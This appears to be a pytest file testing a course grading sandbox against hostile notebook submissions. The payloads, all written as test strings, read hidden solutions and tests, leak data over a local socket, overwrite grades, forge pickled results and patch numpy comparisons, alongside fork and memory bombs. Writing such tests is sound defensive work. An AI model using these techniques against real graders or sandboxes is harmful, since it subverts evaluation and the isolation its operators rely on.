@@ -1,0 +1,461 @@
+"""Batch grading under attack: one batch of hostile, broken, wrong and correct submissions.
+
+Each submission asserts its exact score and reason. The attacks that try to *read* or *reach*
+something return the right answer only when the attempt failed, so full marks prove the
+sandbox held; the ones that try to *write* are checked on disk afterwards.
+"""
+
+import copy
+import csv
+import json
+import os
+import socket
+import subprocess
+import sys
+
+import nbformat
+import pytest
+
+from course_utils import notebooks
+from course_utils.grading.grade import grade_folder
+from course_utils.grading.release import release_notebook
+from course_utils.grading.sandbox import FIRST_UID, Limits
+
+pytestmark = pytest.mark.skipif(
+    os.geteuid() != 0 or not sys.platform.startswith("linux"),
+    reason="the grading sandbox needs root on Linux; CI runs as root",
+)
+
+SOURCE = notebooks.notebook_paths()[0]
+NB = SOURCE.name
+FULL = 8.0
+POINTS = {"convolve-full": 2.0, "conv-matrix": 3.0, "conv1d-windows": 3.0}
+LIMITS = Limits(wall=40, cell=3, call=2)
+
+
+def _source_nb():
+    return nbformat.read(SOURCE, as_version=4)
+
+
+def _cell(nb, exercise_id):
+    return next(c for c in nb.cells if notebooks.exercise_id(c) == exercise_id)
+
+
+def _edit(exercise_id, before="", after="", body=None):
+    """An edit that prepends/appends code to an exercise cell, or replaces it entirely."""
+
+    def apply(nb):
+        cell = _cell(nb, exercise_id)
+        if body is not None:
+            cell.source = f"# EXERCISE: {exercise_id}\n{body}"
+        else:
+            lines = cell.source.split("\n", 1)
+            cell.source = lines[0] + "\n" + before + "\n" + lines[1] + "\n" + after
+        return nb
+
+    return apply
+
+
+WRONG_CONVOLVE = "def convolve(x, w):\n    return np.correlate(x, w, mode='full')\n"
+
+
+def _attacks(listen_port, secrets, out_dir, victim_files):
+    """student -> (edit function or raw bytes, expected score, substring of reason or feedback)."""
+    read_secret = (
+        "def convolve(x, w):\n"
+        "    for path in SECRETS:\n"
+        "        try:\n"
+        "            print(open(path).read()[:2000])\n"
+        "            return np.zeros(1)\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    return np.convolve(x, w)\n"
+    ).replace("SECRETS", repr(secrets))
+    net = (
+        "import socket\n"
+        "def convolve(x, w):\n"
+        "    try:\n"
+        f"        socket.create_connection(('127.0.0.1', {listen_port}), timeout=1).sendall(b'leak')\n"
+        "        return np.zeros(1)\n"
+        "    except OSError:\n"
+        "        return np.convolve(x, w)\n"
+    )
+    overwrite = (
+        "def convolve(x, w):\n"
+        "    hits = 0\n"
+        f"    for path in {victim_files!r}:\n"
+        "        try:\n"
+        "            open(path, 'w').write('student,notebook,score\\nmallory,x,1000\\n')\n"
+        "            hits += 1\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    return np.zeros(1) if hits else np.convolve(x, w)\n"
+    )
+    forge = (
+        "import io, os, json, struct, pickle\n"
+        "class Boom:\n"
+        "    def __reduce__(self):\n"
+        "        return (os.system, ('touch /tmp/course-grading-pwned',))\n"
+        "def convolve(x, w):\n"
+        "    buf = io.BytesIO(); np.save(buf, np.array([Boom()], dtype=object), allow_pickle=True)\n"
+        "    import base64\n"
+        "    value = {'__npy__': base64.b64encode(buf.getvalue()).decode()}\n"
+        "    for fd in range(3, 40):\n"
+        "        for frame in ({'t': 'result', 'stage': STAGE, 'value': value}, {'t': 'end', 'stage': STAGE, 'ok': True}):\n"
+        "            data = json.dumps(frame).encode()\n"
+        "            try:\n"
+        "                os.write(fd, struct.pack('>I', len(data)) + data)\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "    os._exit(0)\n"
+    )
+    return {
+        "correct": (lambda nb: nb, FULL, "passed all 5 hidden cases"),
+        # correlation equals convolution only for the one-tap kernel: 1 of 5 cases
+        "wrong_flip": (
+            _edit("convolve-full", body=WRONG_CONVOLVE),
+            6.4,
+            "passed 1 of 5 hidden cases; wrong values",
+        ),
+        "patch_numpy": (
+            _edit(
+                "convolve-full",
+                body=(
+                    "import numpy.testing, torch\n"
+                    "np.testing.assert_allclose = lambda *a, **k: None\n"
+                    "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
+                    "torch.allclose = lambda *a, **k: True\n"
+                    "def convolve(x, w):\n    return np.zeros(len(x) + len(w) - 1)\n"
+                ),
+            ),
+            6.0,
+            "wrong values",
+        ),
+        "patch_builtins": (
+            _edit(
+                "convolve-full",
+                body=(
+                    "import builtins\nbuiltins.abs = lambda *a: 0\nbuiltins.all = lambda *a: True\n"
+                    "builtins.max = lambda *a, **k: 0\n"
+                    "def convolve(x, w):\n    return np.ones(len(x) + len(w) - 1)\n"
+                ),
+            ),
+            6.0,
+            "wrong values",
+        ),
+        "equal_to_everything": (
+            _edit(
+                "convolve-full",
+                body=(
+                    "class Anything:\n    def __eq__(self, other):\n        return True\n"
+                    "    __ne__ = lambda self, other: False\n"
+                    "def convolve(x, w):\n    return Anything()\n"
+                ),
+            ),
+            6.0,
+            "a call raised TypeError",
+        ),
+        "loop_top_level": (
+            _edit(
+                "conv-matrix",
+                before=(
+                    "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.alarm(1)\nwhile True:\n    pass"
+                ),
+            ),
+            5.0,
+            "the exercise cell ran past the time limit",
+        ),
+        "loop_in_function": (
+            _edit("convolve-full", body="def convolve(x, w):\n    while True:\n        pass\n"),
+            6.0,
+            "a call ran longer than 2 s",
+        ),
+        "spinning_thread": (
+            _edit(
+                "conv1d-windows",
+                after=(
+                    "import threading\nthreading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()"
+                ),
+            ),
+            FULL,
+            "passed all 5 hidden cases",
+        ),
+        "os_exit": (
+            _edit("conv-matrix", before="import os\nos._exit(0)"),
+            5.0,
+            "crashed the Python process",
+        ),
+        "sys_exit": (
+            _edit("convolve-full", before="import sys\nsys.exit(1)"),
+            6.0,
+            "raised SystemExit",
+        ),
+        "keyboard_interrupt": (
+            _edit("convolve-full", body="def convolve(x, w):\n    raise KeyboardInterrupt\n"),
+            6.0,
+            "a call raised KeyboardInterrupt",
+        ),
+        "read_secrets": (
+            _edit("convolve-full", body=read_secret),
+            FULL,
+            "passed all 5 hidden cases",
+        ),
+        "network": (_edit("convolve-full", body=net), FULL, "passed all 5 hidden cases"),
+        "overwrite_grades": (
+            _edit("convolve-full", body=overwrite),
+            FULL,
+            "passed all 5 hidden cases",
+        ),
+        "huge_output": (
+            _edit("conv1d-windows", after="print('x' * 200_000_000)"),
+            FULL,
+            "passed all 5",
+        ),
+        "memory_bomb": (
+            _edit(
+                "convolve-full",
+                body=(
+                    "def convolve(x, w):\n    big = np.ones(50 * 2**30 // 8)\n    return big[: len(x) + len(w) - 1]\n"
+                ),
+            ),
+            6.0,
+            "a call raised MemoryError",
+        ),
+        "fork_storm": (
+            _edit(
+                "conv1d-windows",
+                after=(
+                    "import os, time\nfor _ in range(500):\n    if os.fork() == 0:\n        time.sleep(600)\n        os._exit(0)"
+                ),
+            ),
+            FULL,
+            "passed all 5",
+        ),
+        "segfault": (
+            _edit(
+                "conv-matrix",
+                body=(
+                    "import ctypes\ndef conv_matrix(w, n, padding=0):\n    return ctypes.string_at(0)\n"
+                ),
+            ),
+            5.0,
+            "a call crashed the Python process",
+        ),
+        "pickle_forgery": (
+            _edit("convolve-full", body=forge.replace("STAGE", "'call:convolve-full:0'")),
+            6.0,
+            "a call crashed the Python process",
+        ),
+        "magics_and_shell": (
+            _edit(
+                "convolve-full", after="!touch /tmp/course-grading-shell\n%timeit 1 + 1\n%env X=1"
+            ),
+            FULL,
+            "passed all 5",
+        ),
+        "deleted_exercise": (
+            lambda nb: _drop(nb, lambda c: notebooks.exercise_id(c) == "conv-matrix"),
+            5.0,
+            "no cell starting with `# EXERCISE: conv-matrix`",
+        ),
+        "duplicated_exercise": (
+            _duplicate_wrong,
+            6.4,
+            "appears more than once, the last one was graded",
+        ),
+        "deleted_setup_and_checks": (
+            lambda nb: _drop(
+                nb,
+                lambda c: c.cell_type == "code" and ("setup()" in c.source or "check(" in c.source),
+            ),
+            FULL,
+            "passed all 5",
+        ),
+        "edited_setup_and_checks": (_sabotage_setup_and_checks, FULL, "passed all 5"),
+        "unattempted": (
+            lambda nb: release_notebook(
+                nb, repo_url="https://github.com/o/r", branch="main", name=NB
+            ),
+            0.0,
+            "not attempted",
+        ),
+        "invalid_json": (b'{"cells": [', 0.0, "not valid JSON"),
+        "json_not_notebook": (b'{"hello": [1, 2, 3]}', 0.0, "not a Jupyter notebook"),
+        "json_list": (b"[1, 2, 3]", 0.0, "not a Jupyter notebook"),
+        "not_utf8": (b'{"cells": "\xff\xfe\xfa"}', 0.0, "not UTF-8"),
+        "too_big": (b" " * (100 * 2**20), 0.0, "over the 20 MB limit"),
+    }
+
+
+def _drop(nb, predicate):
+    nb.cells = [c for c in nb.cells if not predicate(c)]
+    return nb
+
+
+def _duplicate_wrong(nb):
+    index = nb.cells.index(_cell(nb, "convolve-full"))
+    wrong = copy.deepcopy(nb.cells[index])
+    wrong.source = "# EXERCISE: convolve-full\n" + WRONG_CONVOLVE
+    wrong.id = "duplicate"
+    nb.cells.insert(index + 3, wrong)
+    return nb
+
+
+def _sabotage_setup_and_checks(nb):
+    for cell in nb.cells:
+        if cell.cell_type == "code" and "setup()" in cell.source:
+            cell.source = "import numpy as np\nnp.convolve = lambda *a, **k: 0\nimport course_utils"
+        elif cell.cell_type == "code" and "check(" in cell.source:
+            cell.source = "print('✅ all good')"
+    return nb
+
+
+@pytest.fixture(scope="module")
+def batch(tmp_path_factory):
+    root = tmp_path_factory.mktemp("grading")
+    submissions, out = root / "submissions", root / "out"
+    submissions.mkdir()
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(5)
+    listener.settimeout(0)
+    outside = root / "outside.ipynb"
+    outside.write_text(SOURCE.read_text())
+    victims = [
+        str(out / "grades.csv"),
+        str(out / "correct" / "results.json"),
+        str(submissions / "correct" / NB),
+    ]
+    secrets = [
+        str(SOURCE),
+        str(SOURCE.parent.parent / "course_utils/grading/hidden/convolution_1d.py"),
+        str(SOURCE.parent.parent / "tests/test_checks.py"),
+        str(submissions / "correct" / NB),
+    ]
+    attacks = _attacks(listener.getsockname()[1], secrets, out, victims)
+    for student, (edit, _, _) in attacks.items():
+        folder = submissions / student
+        folder.mkdir()
+        if isinstance(edit, bytes):
+            (folder / NB).write_bytes(edit)
+        else:
+            nbformat.write(edit(_source_nb()), folder / NB)
+    (submissions / "symlinked").mkdir()
+    (submissions / "symlinked" / NB).symlink_to(outside)
+    (submissions / "nothing").mkdir()
+    rows = grade_folder(submissions, out, jobs=2, limits=LIMITS)
+    try:
+        listener.accept()
+        contacted = True
+    except BlockingIOError:
+        contacted = False
+    listener.close()
+    return {
+        "rows": {r.student: r for r in rows},
+        "out": out,
+        "attacks": attacks,
+        "contacted": contacted,
+        "submissions": submissions,
+    }
+
+
+def test_every_submission_gets_its_exact_score_and_reason(batch):
+    failures = []
+    for student, (_, expected, needle) in batch["attacks"].items():
+        row = batch["rows"][student]
+        text = row.reason + " | " + " | ".join(e.output for e in row.exercises)
+        if row.score != expected or needle not in text:
+            failures.append(f"{student}: score {row.score} (expected {expected}); {text}")
+    assert not failures, "\n".join(failures)
+
+
+def test_links_and_missing_notebooks_are_reported(batch):
+    assert batch["rows"]["symlinked"].score == 0
+    assert "symbolic link" in batch["rows"]["symlinked"].reason
+    assert (
+        batch["rows"]["nothing"].status == "missing"
+        and batch["rows"]["nothing"].reason == "not submitted"
+    )
+
+
+def test_grades_csv_has_one_intact_row_per_student(batch):
+    with open(batch["out"] / "grades.csv", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert list(rows[0]) == ["student", "notebook", "score", "max_score", "status", "reason"]
+    assert {r["student"] for r in rows} == set(batch["rows"])
+    assert "mallory" not in {r["student"] for r in rows}
+    by_student = {r["student"]: r for r in rows}
+    assert by_student["correct"]["score"] == "8" and by_student["correct"]["max_score"] == "8"
+    assert by_student["unattempted"]["score"] == "0"
+    assert nbformat.read(
+        batch["submissions"] / "correct" / NB, as_version=4
+    )  # the victim's file is intact
+
+
+def test_results_json_follows_gradescopes_schema(batch):
+    results = json.loads((batch["out"] / "correct" / "results.json").read_text())
+    assert results["score"] == FULL
+    assert [t["name"] for t in results["tests"]] == [f"{NB}: {i}" for i in POINTS]
+    for test in results["tests"]:
+        assert set(test) >= {"name", "score", "max_score", "output"}
+        assert test["score"] == test["max_score"] == POINTS[test["name"].split(": ")[1]]
+    rejected = json.loads((batch["out"] / "invalid_json" / "results.json").read_text())
+    assert rejected["score"] == 0 and "not valid JSON" in rejected["tests"][0]["output"]
+
+
+def test_nothing_reached_the_network_or_ran_outside_the_sandbox(batch):
+    assert not batch["contacted"], "a submission connected to a listener on 127.0.0.1"
+    assert not os.path.exists("/tmp/course-grading-pwned"), "a pickle payload ran"
+    assert not os.path.exists("/tmp/course-grading-shell"), "a shell escape ran"
+
+
+def test_feedback_reveals_no_solution_hidden_test_or_printed_secret(batch):
+    source = SOURCE.read_text()
+    solution_lines = set()
+    for ex in notebooks.exercises(_source_nb()):
+        block = (
+            _cell(_source_nb(), ex.id)
+            .source.split(notebooks.BEGIN_SOLUTION)[1]
+            .split(notebooks.END_SOLUTION)[0]
+        )
+        solution_lines |= {line.strip() for line in block.splitlines() if line.strip()}
+    hidden = (SOURCE.parent.parent / "course_utils/grading/hidden/convolution_1d.py").read_text()
+    hidden_lines = {
+        line.strip()
+        for line in hidden.splitlines()
+        if len(line.strip()) > 20 and line.strip() not in source
+    }
+    for path in batch["out"].rglob("*"):
+        if path.is_file():
+            text = path.read_text(encoding="utf-8")
+            lines = {line.strip() for line in text.splitlines()}
+            assert not lines & solution_lines, f"{path} shows solution text"
+            assert not any(h in text for h in hidden_lines), f"{path} shows hidden-test text"
+            assert "BEGIN SOLUTION" not in text and "hidden/convolution_1d" not in text
+
+
+def test_no_process_is_left_running(batch):
+    ps = subprocess.run(
+        ["ps", "-eo", "uid=,args="], capture_output=True, text=True, check=True
+    ).stdout
+    leftovers = [
+        line
+        for line in ps.splitlines()
+        if int(line.split()[0]) >= FIRST_UID or "course_utils.grading.sandbox" in line
+    ]
+    assert not leftovers, leftovers
+
+
+def test_a_sandbox_that_cannot_start_stops_the_batch(tmp_path, monkeypatch):
+    from course_utils.grading import grade as grade_module
+    from course_utils.grading.sandbox import SandboxUnavailable
+
+    def broken():
+        raise SandboxUnavailable("no namespaces here")
+
+    monkeypatch.setattr(grade_module, "preflight", broken)
+    (tmp_path / "subs" / "alice").mkdir(parents=True)
+    (tmp_path / "subs" / "alice" / NB).write_text(SOURCE.read_text())
+    with pytest.raises(SandboxUnavailable, match="no namespaces"):
+        grade_folder(tmp_path / "subs", tmp_path / "out")
+    assert not (tmp_path / "out").exists(), "nobody is scored when the sandbox cannot start"
